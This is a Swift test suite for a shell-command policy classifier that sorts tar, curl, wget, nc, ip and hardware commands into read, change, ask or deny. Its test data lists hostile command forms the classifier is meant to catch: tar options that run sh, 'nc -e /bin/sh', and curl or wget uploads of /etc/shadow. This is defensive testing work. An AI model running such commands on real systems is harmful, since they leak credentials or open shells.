import Testing
@testable import ShellPolicy

@Suite("Spec refinements: tar, compressors, curl, wget, network, hardware")
struct SpecArchiveNetworkTests {
    static func kind(_ words: [String]) -> EffectClass { specJudge(words).effect.kind }

    @Test("tar: old-style letters, modes, and options that run programs", arguments: [
        (["tar", "tf", "a.tar"], EffectClass.read), (["tar", "-tzvf", "a.tgz"], .read), (["tar", "--list", "-f", "a.tar"], .read),
        (["tar", "czf", "/root/etc.tgz", "/etc"], .change), (["tar", "-cf", "x.tar", "d"], .change),
        (["tar", "xf", "a.tar"], .ask), (["tar", "-xOf", "a.tar", "etc/hosts"], .read), (["tar", "-xzf", "a.tgz", "-C", "/tmp"], .ask),
        (["tar", "-xf", "a.tar", "--to-command=sh"], .deny), (["tar", "-xf", "a.tar", "--to-c=sh"], .deny),
        (["tar", "-cf", "a.tar", "-I", "sh", "d"], .deny), (["tar", "-cf", "a.tar", "--use-compress-program=sh", "d"], .deny),
        (["tar", "-cf", "a.tar", "--checkpoint=1", "--checkpoint-action=exec=sh", "d"], .deny),
        (["tar", "-cf", "a.tar", "-F", "x.sh", "d"], .deny), (["tar", "-cf", "a.tar", "--info-script=x", "d"], .deny),
        (["tar", "-cf", "a.tar", "--rmt-command=/bin/sh", "d"], .deny), (["tar", "-cf", "a.tar", "--rsh-command=/bin/sh", "d"], .deny),
        (["tar", "-cf", "host:/tmp/a.tar", "d"], .deny), (["tar", "--force-local", "-cf", "host:a.tar", "d"], .change),
        (["tar", "cfI", "a.tar", "sh", "d"], .deny), (["tar", "-f", "a.tar"], .ask), (["tar", "-cxf", "a.tar"], .ask),
        (["tar", "-cf", "a.tar", "--remove-files", "d"], .ask), (["tar", "--delete", "-f", "a.tar", "m"], .ask),
        (["tar", "-tf", "$ARCHIVE"], .deny), (["tar", "--extract", "--to-stdout", "-f", "a.tar"], .read),
    ])
    func tar(_ words: [String], _ expected: EffectClass) {
        #expect(Self.kind(words) == expected, "\(words)")
    }

    @Test("tar: the archive is written by create and read by list; old-style letters take their values in order")
    func tarPaths() {
        let create = specJudge(["tar", "cfz", "/root/b.tgz", "/etc/pve"])
        #expect(create.paths.contains(PathUse(path: .literal("/root/b.tgz"), access: .write(truncates: true), by: "`tar -cf`")))
        #expect(create.paths.contains(PathUse(path: .literal("/etc/pve"), access: .read, by: "`tar create`")))
        #expect(create.normalized.subcommands == ["create"])
        #expect(specJudge(["tar", "tf", "a.tar"]).paths == [PathUse(path: .literal("a.tar"), access: .read, by: "`tar -tf`")])
        #expect(specJudge(["tar", "-xf", "a.tar", "-C", "/etc"]).changesDirectory)
    }

    @Test("compressors: in place writes, -c reads, zstd -o writes", arguments: [
        (["gzip", "-c", "f"], EffectClass.read), (["gzip", "-l", "f.gz"], .read), (["gzip", "f"], .change),
        (["gunzip", "f.gz"], .change), (["zstd", "-d", "-c", "f.zst"], .read), (["zstd", "f"], .change),
        (["zstd", "--rm", "f"], .ask), (["xz", "-t", "f.xz"], .read), (["zstd", "-o", "/etc/x", "f"], .change),
    ])
    func compressors(_ words: [String], _ expected: EffectClass) {
        #expect(Self.kind(words) == expected, "\(words)")
    }

    @Test("curl: reads by default; sending, methods, files and local sockets ask; engines deny", arguments: [
        (["curl", "-sSL", "https://example.com"], EffectClass.read), (["curl", "-I", "https://x"], .read),
        (["curl", "-X", "GET", "https://x"], .read), (["curl", "--proto", "=https", "-x", "http://proxy:3128", "https://x"], .read),
        (["curl", "-H", "Accept: application/json", "https://x"], .read),
        (["curl", "-X", "POST", "https://x"], .ask), (["curl", "-XDELETE", "https://x"], .ask), (["curl", "--request", "PUT", "https://x"], .ask),
        (["curl", "-d", "@/etc/shadow", "https://x"], .ask), (["curl", "-d", "a=1", "https://x"], .ask),
        (["curl", "-F", "f=@/etc/shadow", "https://x"], .ask), (["curl", "-T", "/etc/shadow", "https://x"], .ask),
        (["curl", "-H", "@/etc/shadow", "https://x"], .ask), (["curl", "-K", "/tmp/cfg", "https://x"], .ask),
        (["curl", "--config", "/tmp/cfg"], .ask), (["curl", "--unix-socket", "/run/docker.sock", "http://x"], .ask),
        (["curl", "--engine", "/tmp/x.so", "https://x"], .deny), (["curl", "gopher://127.0.0.1:6379/_x"], .ask),
        (["curl", "-w", "%output{/etc/x}", "https://x"], .ask), (["curl", "-n", "https://x"], .ask),
        (["curl", "https://x", "$X"], .deny),
    ])
    func curl(_ words: [String], _ expected: EffectClass) {
        #expect(Self.kind(words) == expected, "\(words)")
    }

    @Test("curl and wget: every file they write or read is a path")
    func transferPaths() {
        func paths(_ words: [String]) -> [PathUse] { specJudge(words).paths }
        #expect(paths(["curl", "-o", "/etc/x", "https://h/a"]).contains { $0.path == .literal("/etc/x") && $0.access == .write(truncates: true) })
        #expect(paths(["curl", "-D", "/etc/x", "https://h/a"]).contains { $0.path == .literal("/etc/x") })
        #expect(paths(["curl", "-o", "-", "-D", "-", "https://h/a"]).isEmpty, "`-` is standard output")
        #expect(paths(["curl", "-c", "/etc/x", "https://h/a"]).contains { $0.path == .literal("/etc/x") })
        #expect(paths(["curl", "-O", "https://h/dir/debian.iso"]).contains { $0.path == .literal("./debian.iso") })
        #expect(paths(["curl", "-O", "--output-dir", "/var/lib/vz/template/iso", "https://h/d.iso"]).contains {
            $0.path == .literal("/var/lib/vz/template/iso/d.iso") })
        #expect(paths(["curl", "file:///etc/shadow"]).contains { $0.path == .literal("/etc/shadow") && $0.access == .read })
        #expect(paths(["curl", "-b", "/root/cookies", "https://h"]).contains { $0.path == .literal("/root/cookies") && $0.access == .read })
        #expect(paths(["wget", "-o", "/etc/x", "https://h/a"]).contains { $0.path == .literal("/etc/x") })
        #expect(paths(["wget", "-a", "/etc/x", "-O", "-", "https://h/a"]).contains { $0.path == .literal("/etc/x") && $0.access == .write(truncates: false) })
        #expect(paths(["wget", "-P", "/var/lib/vz/template/iso", "https://h/d.iso"]).contains {
            $0.path == .literal("/var/lib/vz/template/iso/d.iso") })
        #expect(paths(["wget", "https://h/"]).contains { $0.path == .literal("./index.html") })
        #expect(paths(["wget", "-i", "/etc/shadow"]).contains { $0.path == .literal("/etc/shadow") && $0.access == .read })
    }

    @Test("wget: downloads are changes; sending, config and helpers ask or deny", arguments: [
        (["wget", "-qO-", "https://x"], EffectClass.read), (["wget", "--spider", "https://x"], .read),
        (["wget", "https://h/a.iso"], .change), (["wget", "--post-file=/etc/shadow", "https://x"], .ask),
        (["wget", "--method=DELETE", "https://x"], .ask), (["wget", "-e", "robots=off", "https://x"], .ask),
        (["wget", "--use-askpass=/tmp/x", "https://x"], .deny), (["wget", "-r", "https://x"], .ask),
    ])
    func wget(_ words: [String], _ expected: EffectClass) {
        #expect(Self.kind(words) == expected, "\(words)")
    }

    @Test("network: showing reads, changing asks", arguments: [
        (["ip", "a"], EffectClass.read), (["ip", "-br", "addr"], .read), (["ip", "-j", "-p", "route", "show", "table", "all"], .read),
        (["ip", "ro", "get", "1.1.1.1"], .read), (["ip", "-s", "link"], .read), (["ip", "-4", "neigh", "show"], .read),
        (["ip", "monitor"], .read), (["ip", "link", "set", "eth0", "down"], .ask), (["ip", "addr", "flush", "dev", "vmbr0"], .ask),
        (["ip", "route", "del", "default"], .ask), (["ip", "r", "a", "default", "via", "1.2.3.4"], .ask),
        (["ip", "-b", "/tmp/cmds"], .deny), (["ip", "-batch", "/tmp/cmds"], .deny), (["ip", "xfrm", "state"], .ask),
        (["ip", "$OBJ"], .deny), (["ip", "frob"], .ask), (["bridge", "fdb", "show"], .read), (["bridge", "vlan", "add", "vid", "5"], .ask),
        (["ss", "-tlnp"], .read), (["ss", "-K", "dst", "1.2.3.4"], .ask), (["ping", "-c", "3", "1.1.1.1"], .read),
        (["ping", "-f", "1.1.1.1"], .ask), (["dig", "+short", "example.com"], .read), (["dig", "-f", "/etc/shadow"], .ask),
        (["dig", "-k", "/etc/bind/key", "x"], .ask), (["host", "-t", "mx", "example.com"], .read),
        (["nc", "-zv", "10.0.0.1", "22"], .read), (["nc", "10.0.0.1", "80"], .ask), (["nc", "-e", "/bin/sh", "h", "1"], .deny),
        (["nc", "-l", "-p", "4444"], .ask), (["ethtool", "eth0"], .read), (["ethtool", "-S", "eth0"], .read),
        (["ethtool", "-s", "eth0", "speed", "100"], .ask), (["ethtool", "-E", "eth0"], .ask), (["ethtool", "-f", "eth0", "fw"], .ask),
        (["traceroute", "-n", "1.1.1.1"], .read),
    ])
    func network(_ words: [String], _ expected: EffectClass) {
        #expect(Self.kind(words) == expected, "\(words)")
    }

    @Test("`ss -D FILE` writes, `ip netns exec` runs its command")
    func networkPaths() {
        #expect(specJudge(["ss", "-D", "/etc/x"]).paths == [PathUse(path: .literal("/etc/x"), access: .write(truncates: true), by: "`ss -D`")])
        #expect(specJudge(["ip", "netns", "exec", "blue", "ip", "a"]).inner == [.argv([.literal("ip"), .literal("a")])])
    }

    @Test("hardware: inventory reads; caches, tests and clears ask", arguments: [
        (["lsblk", "-o", "NAME,SIZE"], EffectClass.read), (["blkid"], .read), (["blkid", "-c", "/dev/null"], .read),
        (["blkid", "-g"], .ask), (["lscpu", "-J"], .read), (["lspci", "-nnk"], .read), (["lsusb", "-t"], .read),
        (["dmidecode", "-t", "memory"], .read), (["smartctl", "-a", "/dev/sda"], .read), (["smartctl", "-t", "long", "/dev/sda"], .ask),
        (["nvme", "list"], .read), (["nvme", "smart-log", "/dev/nvme0"], .read), (["nvme", "format", "/dev/nvme0n1"], .ask),
        (["nvme", "$CMD"], .deny), (["sensors"], .read), (["sensors", "-s"], .ask), (["dmesg", "-T"], .read),
        (["dmesg", "-c"], .ask), (["dmesg", "--clear"], .ask), (["dmesg", "-n", "1"], .ask), (["last", "-n", "5"], .read),
        (["w"], .read), (["who", "-b"], .read), (["uptime", "-p"], .read), (["ps", "aux"], .read), (["ps", "-eo", "pid,etime,cmd"], .read),
        (["ps", "eww"], .ask), (["top", "-b", "-n", "1"], .read), (["top"], .ask), (["lsof", "-i", ":22"], .read),
        (["fuser", "-v", "/mnt"], .read), (["fuser", "-km", "/mnt"], .ask), (["pidof", "sshd"], .read),
    ])
    func hardware(_ words: [String], _ expected: EffectClass) {
        #expect(Self.kind(words) == expected, "\(words)")
    }
}
